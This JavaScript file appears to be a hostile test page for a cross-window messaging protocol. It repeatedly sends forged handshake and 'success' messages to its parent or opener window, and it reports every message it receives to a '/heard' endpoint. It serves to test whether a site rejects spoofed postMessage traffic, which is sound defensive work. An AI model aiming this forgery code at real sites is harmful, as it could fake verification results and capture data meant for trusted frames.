// A page of ill will: it forges every message it can, to whoever shows it or opened it, and reports what it hears.
const { searchParams } = new URL(location);
const instance = searchParams.get("i") ?? "";
const victim = parent === window ? opener : parent;
const tell = (heard) => fetch("/heard", { method: "POST", body: JSON.stringify(heard) });

addEventListener("message", ({ data, origin, ports }) => tell({ data, origin, ports: ports.length }));

const forge = () => {
  const success = { result: "forged", requestId: "forged", expiresAt: Date.now() + 300_000 };
  const channel = new MessageChannel();
  channel.port1.onmessage = ({ data }) => tell({ data, port: true });
  victim?.postMessage({ kyvs: 1, t: "hello", i: instance }, "*", [channel.port2]);
  victim?.postMessage({ kyvs: 1, t: "success", p: success }, "*");
  channel.port1.postMessage({ kyvs: 1, t: "ready", n: 1, p: {} });
  channel.port1.postMessage({ kyvs: 1, t: "success", n: 2, p: success });
};
forge();
setInterval(forge, 200);
